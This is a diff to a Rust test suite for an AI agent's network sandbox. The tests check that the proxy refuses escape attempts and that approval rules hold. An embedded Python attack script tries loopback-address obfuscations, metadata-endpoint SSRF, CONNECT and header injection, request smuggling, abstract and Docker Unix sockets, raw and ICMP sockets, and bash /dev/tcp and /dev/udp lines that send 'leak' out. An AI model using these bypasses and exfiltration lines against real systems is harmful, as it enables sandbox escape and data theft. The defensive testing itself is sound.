@@ -2,7 +2,15 @@
 
 mod clients;
 
-use std::{net::TcpListener, process::Command, time::Duration};
+use std::{
+    net::{TcpListener, UdpSocket},
+    os::{
+        linux::net::SocketAddrExt as _,
+        unix::net::{SocketAddr, UnixListener},
+    },
+    process::Command,
+    time::Duration,
+};
 
 use serde_json::json;
 
@@ -76,27 +84,18 @@ fn programs_reach_the_hosts_that_are_allowed_and_no_others() {
         ("curl", "curl -sS --proxytunnel"),
         ("curl", "curl -sS --proxy socks5h://127.0.0.1:3128"),
         ("wget", "wget -q -t 1 -O -"),
-        (
-            "node",
-            "node -e 'fetch(process.argv[1]).then(r=>r.text()).then(console.log, e=>console.error(e.cause))'",
-        ),
     ];
     for (program, command) in programs {
         if !has(program) {
             continue;
         }
         let said = exec(&sandbox, &model, &format!("{command} http://{allowed}/x"));
-        // Old releases of node know no proxy.
-        let is_old_node = program == "node" && said.contains("ECONNREFUSED");
-        assert!(
-            said.contains("the page") || is_old_node,
-            "{command}: {said}"
-        );
+        assert!(said.contains("the page"), "{command}: {said}");
         let said = exec(&sandbox, &model, &format!("{command} http://{refused}/x"));
         let line = format!(
             "[network: {refused} is not reached: 127.0.0.1 is an address of this machine; the owner can allow it with [tools.exec.network] allow = [\"{refused}\"] in agent.toml]"
         );
-        assert!(said.contains(&line) || is_old_node, "{command}: {said}");
+        assert!(said.contains(&line), "{command}: {said}");
     }
     assert!(other.accept().is_err(), "somebody connected");
     let audit = sandbox.read("state/audit.jsonl").expect("an audit log");
@@ -154,18 +153,20 @@ for a in ['127.0.0.1', 'localhost', '0.0.0.0', '::1', '::ffff:127.0.0.1', '192.0
 def udp(a, p):
     s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(1)
     s.sendto(b'\0\1\1\0\0\1\0\0\0\0\0\0\1a\7example\0\0\1\0\1', (a, p)); return s.recv(10)
-for a in ['127.0.0.1', '127.0.0.53', '192.0.2.1', '::1']: t('dns', lambda: udp(a, 53))
+for a in ['127.0.0.1', '127.0.0.53', '192.0.2.1', '::1', '::ffff:127.0.0.1']: t('dns', lambda: udp(a, 53)); t('udp', lambda: udp(a, port))
 t('name', lambda: socket.getaddrinfo('leak.example.org', 80))
 def connect(to, more=b''):
     s = socket.create_connection(P, 5); s.sendall(b'CONNECT ' + to.encode() + b' HTTP/1.1\r\nHost: ' + os.environ['GOOD'].encode() + b'\r\n\r\n' + more)
     a = s.recv(200)
     if b' 200 ' in a: return to
     raise Exception(a)
-for a in ['127.0.0.1', '127.1', '2130706433', '0x7f.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', 'localhost', 'localhost.', '127.0.0.1.', 'a.localhost', '169.254.169.254', '10.0.0.1', '192.0.2.1', 'leak.example.org']:
+for a in ['127.0.0.1', '127.1', '2130706433', '0x7f.1', '0.0.0.0', '[::1]', '[::ffff:127.0.0.1]', 'localhost', 'localhost.', '127.0.0.1.', 'a.localhost', '169.254.169.254', '10.0.0.1', '192.0.2.1', 'leak.example.org',
+          '0177.0.0.1', '0x7f000001', '127.0.0.1..', '[::127.0.0.1]', '[::ffff:7f00:1]', '[64:ff9b::7f00:1]', '[2002:7f00:1::]', '[::1%lo]', '[fe80::1]', '%6cocalhost', '127.0.0.1%00', 'localhost%00.example.org', '\uff4cocalhost', '\uff11\uff12\uff17.0.0.1', '127\u30020\u30020\u30021', 'user@127.0.0.1', 'localhost.localhost', '']:
     t('connect', lambda: connect(f'{a}:{port}'))
 t('two hosts', lambda: connect(f'127.0.0.1:{ok}@127.0.0.1:{port}'))
 t('two ports', lambda: connect(f'127.0.0.1:{ok}:{port}'))
 t('line', lambda: connect(f'127.0.0.1:{port}\r\nX: 127.0.0.1:{ok}'))
+for p in ['0', '00', '-1', '65536', f'{port}/', f' {port}', f'+{port}', f'0{port}', f'{port}#:{ok}', f'{port}?:{ok}', f'{port}\\:{ok}']: t('port', lambda: connect(f'127.0.0.1:{p}'))
 def socks(kind, address, p):
     s = socket.create_connection(P, 5); s.sendall(b'\5\1\0\5\1\0' + bytes([kind]) + address + struct.pack('>H', p)); s.recv(2); a = s.recv(10)
     if a[1] == 0: return address
@@ -181,8 +182,26 @@ def forward(line, host):
     if b' 200 ' in a[:20] and b'the page' not in a: return line
     raise Exception(a)
 t('forward', lambda: forward(f'GET http://127.0.0.1:{port}/ HTTP/1.1', os.environ['GOOD'])); t('origin', lambda: forward('GET / HTTP/1.1', os.environ['OTHER']))
+for line in [f'GET\t/\tHTTP/1.1\nHost:x\n\nGET http://127.0.0.1:{port}/ HTTP/1.1', f'GET http://127.0.0.1:{ok}@127.0.0.1:{port}/ HTTP/1.1', f'GET http://127.0.0.1:{ok}\\@127.0.0.1:{port}/ HTTP/1.1', f'GET //127.0.0.1:{port}/ HTTP/1.1', f'GET https://127.0.0.1:{port}/ HTTP/1.1', f'GET ftp://127.0.0.1:{port}/ HTTP/1.1', f'PRI * HTTP/2.0']: t('forward', lambda: forward(line, os.environ['OTHER']))
+def smuggle():
+    # A second request behind the first: it goes nowhere but to the server of the first.
+    s = socket.create_connection(P, 5); s.settimeout(5)
+    s.sendall(f'POST http://127.0.0.1:{ok}/x HTTP/1.1\r\nContent-Length: 0\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET http://127.0.0.1:{port}/ HTTP/1.1\r\n\r\nCONNECT 127.0.0.1:{port} HTTP/1.1\r\n\r\n'.encode()); a = b''
+    while d := s.recv(4000): a += d
+    if b'Connection established' in a: return a
+t('smuggle', lambda: smuggle() or 1 / 0)
+def large():
+    s = socket.create_connection(P, 5); s.sendall(b'GET http://' + os.environ['GOOD'].encode() + b'/x HTTP/1.1\r\nX: ' + b'a' * 300000 + b'\r\n\r\n'); a = s.recv(100)
+    if b' 431 ' not in a: return a
+t('large', lambda: large() or 1 / 0)
+# Names of sockets without a file are of the network, and the network is another one.
+def abstract(): socket.socket(socket.AF_UNIX).connect('\0' + os.environ['ABSTRACT']); return 'abstract'
+t('abstract', abstract)
 t('unix', lambda: [s for s in ['/run/docker.sock', '/run/dbus/system_bus_socket'] if not socket.socket(socket.AF_UNIX).connect(s)])
-t('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)); t('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)); t('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
+t('raw', lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)); t('raw6', lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)); t('netlink', lambda: socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 16)); t('xdp', lambda: socket.socket(44, socket.SOCK_RAW))
+def ping(a): s = socket.socket(socket.AF_INET6 if ':' in a else socket.AF_INET, socket.SOCK_DGRAM, 58 if ':' in a else 1); s.settimeout(1); s.sendto(struct.pack('>BBHHH', 128 if ':' in a else 8, 0, 0, 1, 1) + b'secret', (a, 0)); return a
+for a in ['192.0.2.1', '1.1.1.1', '2001:db8::1']: t('icmp', lambda: ping(a))
+t('packet', lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW)); t('vsock', lambda: socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM))
 def ours(): s = socket.socket(); s.bind(P); return P
 t('port', ours)
 print('tried', connect(f'127.0.0.1:{ok}'))
@@ -191,12 +210,18 @@ print('tried', connect(f'127.0.0.1:{ok}'))
 #[test]
 fn nothing_leaves_around_the_proxy() {
     let (pages, other) = servers();
+    let own = other.local_addr().expect("own");
+    let datagrams = UdpSocket::bind(own).expect("the port, for datagrams");
+    datagrams.set_nonblocking(true).expect("own socket");
+    let name = format!("agent-test-{}", own.port());
+    let address = SocketAddr::from_abstract_name(&name).expect("short");
+    let nameless = UnixListener::bind_addr(&address).expect("a socket");
+    nameless.set_nonblocking(true).expect("own socket");
     let (model, sandbox) = home(&[pages.host()]);
     sandbox.put("workspace/attack.py", ATTACKS.as_bytes());
     let _daemon = sandbox.ready();
     let command = format!(
-        "env -u HTTP_PROXY -u http_proxy OTHER={} GOOD={} /usr/bin/python3 attack.py",
-        other.local_addr().expect("own"),
+        "env -u HTTP_PROXY -u http_proxy -u HTTPS_PROXY -u https_proxy -u ALL_PROXY -u all_proxy OTHER={own} GOOD={} ABSTRACT={name} /usr/bin/python3 attack.py",
         pages.host()
     );
     let said = exec(&sandbox, &model, &command);
@@ -205,6 +230,23 @@ fn nothing_leaves_around_the_proxy() {
         "{said}"
     );
     assert!(other.accept().is_err(), "somebody connected");
+    assert!(datagrams.recv(&mut [0]).is_err(), "a datagram came");
+    assert!(nameless.accept().is_err(), "somebody connected by name");
+    // Programs that look at no variable get nowhere, too.
+    let port = own.port();
+    for command in [
+        format!(
+            "env -i /usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://{own}/\", timeout=5)'"
+        ),
+        format!("bash -c 'exec 3<>/dev/tcp/127.0.0.1/{port}; echo leak >&3'"),
+    ] {
+        let said = exec(&sandbox, &model, &command);
+        assert!(said.contains("refused"), "{command}: {said}");
+    }
+    // A datagram to nobody is no error.
+    let udp = format!("bash -c 'echo leak > /dev/udp/127.0.0.1/{port}'; echo done");
+    assert!(exec(&sandbox, &model, &udp).contains("done"));
+    assert!(other.accept().is_err() && datagrams.recv(&mut [0]).is_err());
 }
 
 #[test]
@@ -301,6 +343,80 @@ fn where_nobody_waits_nobody_is_asked() {
             .query("queue", "SELECT id FROM approvals")
             .is_empty()
     );
+}
+
+#[test]
+fn what_is_allowed_always_holds_where_nobody_waits_and_what_is_for_the_conversation_does_not() {
+    let house = House::new();
+    let sandbox = &house.sandbox;
+    let fetch = |host: &str| {
+        let python = format!(
+            "/usr/bin/python3 -c 'import urllib.request as u; u.urlopen(\"http://{host}/\")' 2>&1 | tail -1"
+        );
+        json!({"command": python})
+    };
+    let call = |input| house.model.push(Reply::Tool("exec".to_owned(), input));
+    let last = |count| {
+        let requests = house.model.wait_requests(count, SOON);
+        let messages = requests.last().expect("a request")["messages"].clone();
+        let last = messages.as_array().and_then(|all| all.last());
+        last.expect("a message").to_string()
+    };
+    // Nobody may have these names, so nothing is connected to.
+    for (host, how) in [("a.invalid", "--always"), ("b.invalid", "--for-session")] {
+        let seen = house.model.requests().len();
+        call(fetch(host));
+        house.telegram.say(1001, 1001, "fetch it");
+        let verdict = sandbox.send(&["--approve", &sandbox.wait_asked(), how]);
+        assert_eq!(verdict.code, 0, "{}", verdict.stderr);
+        let said = last(seen + 2);
+        assert!(
+            said.contains(&format!("{host}:80 cannot be found")),
+            "{said}"
+        );
+    }
+    let in_event = |host: &str| {
+        let seen = house.model.requests().len();
+        call(fetch(host));
+        let event = sandbox.send(&["--system", "--source", "cron", "look"]);
+        assert_eq!(event.code, 0, "{}", event.stderr);
+        last(seen + 2)
+    };
+    let in_job = |host: &str| {
+        let seen = house.model.requests().len();
+        call(fetch(host));
+        let run = sandbox.send(&["--job", "run", "look"]);
+        assert_eq!(run.code, 0, "{}", run.stderr);
+        last(seen + 2)
+    };
+    let added = sandbox.send(&[
+        "--job",
+        "add",
+        "look",
+        "--name",
+        "look",
+        "--cron",
+        "0 8 1 1 *",
+    ]);
+    assert_eq!(added.code, 0, "{}", added.stderr);
+    let check = |host: &str, expected: &str| {
+        for said in [in_event(host), in_job(host)] {
+            assert!(said.contains(&format!("{host}:80 {expected}")), "{said}");
+        }
+    };
+    check("a.invalid", "cannot be found");
+    check("b.invalid", "is not allowed; the owner can allow it");
+    check("c.invalid", "is not allowed; the owner can allow it");
+    let asked = sandbox.query("queue", "SELECT count(*) FROM approvals");
+    assert_eq!(format!("{asked:?}"), "[[Integer(2)]]");
+    let audit = sandbox.read("state/audit.jsonl").expect("an audit log");
+    assert!(
+        audit.contains("\"host\":\"c.invalid\",\"port\":80,\"verdict\":\"refused\""),
+        "{audit}"
+    );
+    // Taken back is taken back at once.
+    std::fs::remove_file(sandbox.path("state/rules.json")).expect("it was written");
+    check("a.invalid", "is not allowed; the owner can allow it");
 }
 
 #[test]
